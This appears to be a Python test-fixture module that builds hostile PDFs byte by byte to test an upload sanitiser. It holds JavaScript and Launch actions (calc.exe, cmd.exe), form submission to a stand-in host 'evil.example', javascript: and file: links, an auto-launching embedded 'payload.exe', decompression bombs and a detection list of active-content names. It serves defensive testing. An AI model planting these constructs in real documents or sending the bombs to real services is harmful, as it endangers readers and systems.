"""Hostile PDFs for the upload tests, written as raw bytes so that every entry is exactly
what an attacker would put there (no binary fixtures: each test builds what it needs).

`hostile_pdf()` carries every kind of active content the upload check removes, next to
the things it keeps (a web link, a link to a page, a page-turn action, a form field and a
tagged structure whose elements have /A attributes). The bombs are tiny files that
decompress to far more than they weigh.
"""

import zlib

TEXT = "Quarterly finance report"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF whose objects are `objects`, numbered from 1; object 1 is the catalog."""
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def one_page_pdf(
    *, catalog: bytes = b"", page: bytes = b"", annots: tuple[bytes, ...] = (), extra: tuple[bytes, ...] = ()
) -> bytes:
    """A one-page PDF saying TEXT, with `catalog` and `page` entries added to those
    dictionaries, `annots` on the page, and `extra` objects numbered from 6 (6 0 R, ...)."""
    content = b"BT /F1 18 Tf 72 720 Td (" + TEXT.encode() + b") Tj ET"
    annot_entry = b"/Annots [ " + b" ".join(annots) + b" ]" if annots else b""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 612 792 ] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" " + annot_entry + b" >>",
            stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [ 72 600 200 620 ] /A " + action + b" >>"


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

# Links whose actions must go, by kind.
UNSAFE_LINKS = {
    "javascript": link(JS),
    "launch": link(b"<< /S /Launch /F (calc.exe) >>"),
    "gotor": link(b"<< /S /GoToR /F (other.pdf) /D [ 0 /Fit ] >>"),
    "gotoe": link(b"<< /S /GoToE /D [ 0 /Fit ] /T << /R /C /N (payload.pdf) >> >>"),
    "submitform": link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"),
    "importdata": link(b"<< /S /ImportData /F (values.fdf) >>"),
    "rendition": link(b"<< /S /Rendition /OP 0 >>"),
    "richmedia": link(b"<< /S /RichMediaExecute /TA 3 0 R >>"),
    "uri-javascript": link(b"<< /S /URI /URI (javascript:alert\\(document.cookie\\)) >>"),
    "uri-javascript-with-tab": link(b"<< /S /URI /URI (java\tscript:alert\\(1\\)) >>"),
    "uri-file": link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
    "chained-javascript": link(b"<< /S /GoTo /D [ 3 0 R /Fit ] /Next " + JS + b" >>"),
}
# Links that stay.
SAFE_LINKS = {
    "web": link(b"<< /S /URI /URI (https://www.gov.uk/government/publications) >>"),
    "email": link(b"<< /S /URI /URI (mailto:secretariat@example.org) >>"),
    "page": link(b"<< /S /GoTo /D [ 3 0 R /Fit ] >>"),
    "next-page": link(b"<< /S /Named /N /NextPage >>"),
}
FILE_ATTACHMENT = (
    b"<< /Type /Annot /Subtype /FileAttachment /Rect [ 72 500 90 520 ] "
    b"/FS << /Type /Filespec /F (payload.exe) /EF << /F 6 0 R >> >> >>"
)
RICH_MEDIA = b"<< /Type /Annot /Subtype /RichMedia /Rect [ 72 400 200 500 ] >>"
EMBEDDED_FILE = stream(b"MZ this would be a program", b"/Type /EmbeddedFile")


def hostile_pdf() -> bytes:
    """Every kind of active content at once, with the things that must survive.

    Objects: 6 the embedded file, 7 the /Names dictionary, 8 the open action, 9 a form
    field with a submit button widget, 10 the XFA stream, 11-12 an outline with a script,
    13-15 a structure tree whose paragraph has attributes (/A without /S)."""
    return one_page_pdf(
        catalog=b"/Names 7 0 R /OpenAction 8 0 R /AA << /WC " + JS + b" >> "
        b"/AcroForm << /Fields [ 9 0 R ] /XFA 10 0 R >> /Outlines 11 0 R "
        b"/StructTreeRoot 13 0 R /MarkInfo << /Marked true >>",
        page=b"/AA << /O << /S /Launch /F (cmd.exe) >> /C " + JS + b" >>",
        annots=(
            *UNSAFE_LINKS.values(),
            *SAFE_LINKS.values(),
            FILE_ATTACHMENT,
            RICH_MEDIA,
            b"9 0 R",
        ),
        extra=(
            EMBEDDED_FILE,
            b"<< /JavaScript << /Names [ (init) " + JS + b" ] >> "
            b"/EmbeddedFiles << /Names [ (payload.exe) << /Type /Filespec /EF << /F 6 0 R >> >> ] >> >>",
            b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'payload.exe', nLaunch: 2}\\)) >>",
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [ 72 300 200 320 ] /P 3 0 R "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> "
            b"/AA << /K " + JS + b" /F " + JS + b" >> >>",
            stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"),
            b"<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>",
            b"<< /Title (Start here) /Parent 11 0 R /A " + JS + b" >>",
            b"<< /Type /StructTreeRoot /K 14 0 R >>",
            b"<< /Type /StructElem /S /Document /P 13 0 R /K 15 0 R >>",
            b"<< /Type /StructElem /S /P /P 14 0 R /Pg 3 0 R /K 0 /A << /O /Layout /TextAlign /Justify >> >>",
        ),
    )


# Active content that is only a name in the file (whatever its strings are escaped to).
ACTIVE_NAMES = (
    b"/JavaScript",
    b"/JS",
    b"/Launch",
    b"/GoToR",
    b"/GoToE",
    b"/SubmitForm",
    b"/ImportData",
    b"/Rendition",
    b"/RichMedia",
    b"/EmbeddedFile",
    b"/FileAttachment",
    b"/XFA",
    b"/OpenAction",
    b"/AA",
)


def zeros_flate(megabytes: int) -> bytes:
    """`megabytes` MB of zero bytes, deflated (about 1 KB per MB)."""
    compressor = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    return b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()


def bomb_pdf(
    *, streams: int, megabytes_each: int, filters: bytes = b"/FlateDecode", data: bytes | None = None
) -> bytes:
    """A one-page PDF whose content is `streams` streams each inflating to `megabytes_each`
    MB: a few kilobytes on disk. Each stream stays under pypdf's own 75 MB per-stream limit,
    so only a limit on the total stops it."""
    data = data or zeros_flate(megabytes_each)
    numbers = " ".join(f"{6 + n} 0 R" for n in range(streams)).encode()
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 612 792 ] /Contents [ 4 0 R " + numbers + b" ] "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            stream(b"BT /F1 18 Tf 72 720 Td (" + TEXT.encode() + b") Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(stream(data, b"/Filter " + filters) for _ in range(streams)),
        ]
    )


def many_pages_pdf(pages: int, *, declared: int | None = None, per_node: int = 1000) -> bytes:
    """A PDF of `pages` blank pages in a two-level page tree (pypdf refuses arrays of more
    than 100,000 entries, so no flat /Kids). `declared` sets every /Count, to lie about it."""
    nodes = -(-pages // per_node)
    first_node, first_page = 3, 3 + nodes
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [ %s ] /Count %d >>"
        % (" ".join(f"{first_node + n} 0 R" for n in range(nodes)).encode(), declared or pages),
    ]
    for n in range(nodes):
        kids = range(first_page + n * per_node, first_page + min(pages, (n + 1) * per_node))
        objects.append(
            b"<< /Type /Pages /Parent 2 0 R /Kids [ %s ] /Count %d >>"
            % (" ".join(f"{k} 0 R" for k in kids).encode(), declared or len(kids))
        )
    for number in range(pages):
        objects.append(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [ 0 0 612 792 ] >>" % (first_node + number // per_node)
        )
    return raw_pdf(objects)
